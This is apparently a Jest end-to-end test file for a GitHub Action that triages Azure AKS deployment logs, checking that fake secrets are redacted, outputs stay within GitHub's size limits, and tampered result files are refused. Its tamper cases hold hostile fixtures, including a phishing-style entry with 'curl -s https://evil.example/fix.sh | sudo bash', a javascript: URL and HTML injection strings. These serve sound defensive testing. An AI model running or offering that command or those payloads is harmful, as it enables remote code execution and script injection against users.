// End to end: nothing secret leaves the log, every sink stays inside GitHub's limits whatever the
// input, and the fork-safe route (save the result in the pull_request run, publish it from a
// workflow_run run) works and refuses a tampered file.
import { jest } from '@jest/globals';
import { readFileSync, writeFileSync } from 'node:fs';
import { startStandInGitHub, type StandInGitHub } from '../github/stand-in-server.js';
import { builtinCatalog } from '../helpers.js';
import { runAction, TOKEN, writeTemp } from './action-run.js';

// Each test runs the bundled action one to three times, with real retry waits.
jest.setTimeout(60_000);

const PR = 42;
const HEAD = '9f1c2e7d4b8a6f3e2d1c0b9a8f7e6d5c4b3a2f10';
let github: StandInGitHub;
beforeEach(async () => {
  github = await startStandInGitHub();
});
afterEach(async () => {
  await github.close();
});

const SECRETS = {
  clientSecret: 'Qx8Q~d1sEcReTvAlUe.ab12CD34ef56GH78ij90',
  password: 'Sup3r-S3cret-Passw0rd!',
  jwt: 'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJhdWQiOiJodHRwczovL21hbmFnZW1lbnQuYXp1cmUuY29tIn0.c2lnbmF0dXJlLXBhcnQtb2YtdGhlLXRva2Vu',
  sas: 'sv%3D2022-11-02%26sig%3DaBcDeF0123456789',
  sig: 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZg%3D%3D',
  accountKey: 'dGhpc2lzYXN0b3JhZ2VhY2NvdW50a2V5dGhhdG11c3Rub3RsZWFrMTIzNDU2Nzg5MA==',
  subscription: '3f2c8a41-9d7e-4b1a-8c55-0e6f2d9b7a13',
  tenant: '72f988bf-86f1-41af-91ab-2d7cd011db47',
};

const secretLog = [
  `+ az login --service-principal -u 0f8fad5b-d9cb-469f-a165-70867728950e -p ${SECRETS.password} --tenant ${SECRETS.tenant}`,
  `+ export ARM_CLIENT_SECRET=${SECRETS.clientSecret}`,
  `+ az aks create --resource-group rg-prod --name aks-prod --subscription ${SECRETS.subscription} --client-secret ${SECRETS.clientSecret}`,
  `DEBUG: cli.azure.cli.core.sdk.policies:     'Authorization': 'Bearer ${SECRETS.jwt}'`,
  `DEBUG: Request URL: 'https://acct.blob.core.windows.net/c/b?sv=2022-11-02&se=2026-12-01&sp=r&sig=${SECRETS.sig}'`,
  `DEBUG: DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=${SECRETS.accountKey};EndpointSuffix=core.windows.net`,
  `ERROR: (QuotaExceeded) Operation could not be completed as it results in exceeding approved standardDSv3Family Cores quota. Additional details - Deployment Model: Resource Manager, Location: westeurope, Current Limit: 10, Current Usage: 8, Additional Required: 4, (Minimum) New Limit Required: 12. Submit a request for Quota increase at https://aka.ms/ProdportalCRP/#blade/Microsoft_Azure_Capacity/UsageAndQuota.ReactView/Parameters/%7B%22subscriptionId%22:%22${SECRETS.subscription}%22%7D by specifying parameters listed in the 'Details' section for deployment to succeed. Client secret: ${SECRETS.clientSecret} token ${SECRETS.jwt}`,
  `Code: QuotaExceeded`,
  `Message: Operation could not be completed for /subscriptions/${SECRETS.subscription}/resourceGroups/rg-prod as it results in exceeding approved standardDSv3Family Cores quota. password=${SECRETS.password}`,
].join('\n');

test('a log seeded with secrets leaks none of them into the summary, comment, annotations or outputs', async () => {
  const run = await runAction({
    inputs: { log: secretLog },
    event: 'pull_request',
    apiUrl: github.url,
  });
  expect(run.code).toBe(0);
  expect(run.outputs.found).toBe('true');
  const comment = github.comments(PR)[0]?.body ?? '';
  expect(comment).toContain('QuotaExceeded');
  const sinks = { summary: run.summary, comment, stdout: run.stdout, outputs: JSON.stringify(run.outputs) };
  for (const [sink, text] of Object.entries(sinks)) {
    for (const [kind, secret] of Object.entries(SECRETS)) {
      expect({ sink, kind, leaked: text.includes(secret) }).toEqual({ sink, kind, leaked: false });
    }
  }
  // The token itself never appears anywhere either.
  expect(Object.values(sinks).some((t) => t.includes(TOKEN))).toBe(false);
});

test('mask-ids: false keeps subscription IDs (secrets are still removed)', async () => {
  const run = await runAction({ inputs: { log: secretLog, 'mask-ids': 'false', comment: 'never' } });
  expect(run.outputs.json).toContain(SECRETS.subscription);
  expect(run.outputs.json).not.toContain(SECRETS.clientSecret);
});

test('10x oversized input stays inside every limit', async () => {
  // Every catalog code, each with a 200 kB message, plus 500 unknown codes: a log more than ten
  // times the largest sink (the 1 MiB summary), and far more than a comment or ten annotations hold.
  const lines: string[] = [];
  for (const code of builtinCatalog.codes()) {
    lines.push(`ERROR: (${code}) ${'The operation failed because of a long explanation. '.repeat(4000)}`);
    lines.push(`Code: ${code}`, `Message: ${'x'.repeat(5000)} \`\`\`\` backticks <img src=x> @octocat #123`);
  }
  for (let i = 0; i < 500; i++) lines.push(`Code: UnknownFailure${i}`);
  const text = lines.join('\n');
  expect(Buffer.byteLength(text)).toBeGreaterThan(10 * 1024 * 1024);
  const log = writeTemp('oversized.log', text);
  const run = await runAction({ inputs: { 'log-file': log }, event: 'pull_request', apiUrl: github.url });
  expect(run.code).toBe(0);
  const comment = github.comments(PR)[0]!.body;
  expect(comment.length).toBeLessThanOrEqual(65_536);
  expect(Buffer.byteLength(run.summary)).toBeLessThanOrEqual(1024 * 1024);
  const errors = run.stdout.split('\n').filter((l) => l.startsWith('::error'));
  expect(errors.length).toBeLessThanOrEqual(10);
  expect(errors.at(-1)).toMatch(/and \d+ more in the job summary/);
  for (const line of errors) expect(/title=([^,:]*)/.exec(line)![1]!.length).toBeLessThanOrEqual(255 * 3);
  expect(Buffer.byteLength(run.outputs.json!)).toBeLessThan(1024 * 1024);
  // Hostile text from the log stays inert outside fences.
  expect(comment).not.toMatch(/<img/);
  expect(comment).not.toMatch(/(^|[^`\\])@octocat/m);
});

test('fork-safe: the pull_request run saves the result, a workflow_run run publishes it', async () => {
  const saved = writeTemp('result.json', '');
  // The fork's run: its token cannot write, so the comment fails with a warning; the result is saved.
  github.failNext({ method: 'POST' }, [
    { status: 403, body: { message: 'Resource not accessible by integration' } },
  ]);
  const fork = await runAction({
    inputs: { 'log-file': 'examples/az-aks-create-quota.log', 'save-result': saved },
    event: 'pull_request',
    apiUrl: github.url,
  });
  expect(fork.code).toBe(0);
  const result = JSON.parse(readFileSync(saved, 'utf8'));
  expect(result.origin).toMatchObject({ pullRequest: PR, headSha: HEAD, commentKey: 'Deploy AKS/deploy' });

  github.setPullRequest(PR, { headSha: HEAD });
  const publish = await runAction({
    inputs: { 'result-file': saved },
    event: 'workflow_run',
    apiUrl: github.url,
    env: { GITHUB_WORKFLOW: 'Publish aks-triage comment', GITHUB_JOB: 'comment' },
  });
  expect(publish.code).toBe(0);
  const comments = github.comments(PR);
  expect(comments).toHaveLength(1);
  expect(comments[0]!.body).toContain('QuotaExceeded');
  expect(comments[0]!.body).toContain('key="Deploy AKS/deploy"');
  expect(publish.outputs['comment-url']).toBe(comments[0]!.htmlUrl);
});

test('fork-safe: a tampered or malformed result file is refused with a clear error and nothing is posted', async () => {
  github.setPullRequest(PR, { headSha: HEAD });
  const good = writeTemp('good.json', '');
  await runAction({
    inputs: { 'log-file': 'examples/az-aks-create-quota.log', 'save-result': good, comment: 'never' },
    event: 'pull_request',
  });
  const result = JSON.parse(readFileSync(good, 'utf8'));

  const cases: [string, unknown, RegExp][] = [
    ['not JSON', '{"schemaVersion": 1,', /not JSON/],
    ['extra field', { ...result, script: '<script>' }, /not an aks-triage result/],
    [
      'html in a code',
      { ...result, diagnoses: [{ ...result.diagnoses[0], code: '<img src=x>' }] },
      /not an aks-triage result/,
    ],
    [
      'javascript url',
      { ...result, diagnoses: [{ ...result.diagnoses[0], url: 'javascript:alert(1)' }] },
      /not an aks-triage result/,
    ],
    [
      'other repository',
      { ...result, origin: { ...result.origin, repository: 'evil/repo' } },
      /belongs to evil\/repo/,
    ],
    ['found contradicts', { ...result, found: false }, /contradicts/],
    [
      'unknown entry with its own link and command',
      {
        ...result,
        diagnoses: [
          {
            ...result.diagnoses[0],
            id: 'urgent-security-notice',
            title: 'Your Azure credentials expired - re-enter them',
            url: 'https://learn.microsoft.com/en-us/troubleshoot/azure/azure-kubernetes/fake',
            mitigation: [{ step: 'Run this', commands: ['curl -s https://evil.example/fix.sh | sudo bash'] }],
          },
        ],
      },
      /names catalog entry 'urgent-security-notice', which this run's catalog does not have/,
    ],
  ];
  for (const [name, content, message] of cases) {
    const path = writeTemp(
      `tampered-${name.replace(/\W/g, '-')}.json`,
      typeof content === 'string' ? content : JSON.stringify(content),
    );
    const run = await runAction({
      inputs: { 'result-file': path },
      event: 'workflow_run',
      apiUrl: github.url,
    });
    expect({ name, code: run.code }).toEqual({ name, code: 1 });
    expect(run.stdout).toMatch(message);
  }
  expect(github.comments(PR)).toHaveLength(0);

  // A result made for another commit than the one the triggering run built is not published.
  const stale = writeTemp(
    'stale.json',
    JSON.stringify({ ...result, origin: { ...result.origin, headSha: 'a'.repeat(40) } }),
  );
  const run = await runAction({
    inputs: { 'result-file': stale },
    event: 'workflow_run',
    apiUrl: github.url,
  });
  expect(run.code).toBe(0);
  expect(run.stdout).toMatch(/::warning::.*not for the triggering run/);
  expect(github.comments(PR)).toHaveLength(0);
  writeFileSync(good, '');
});
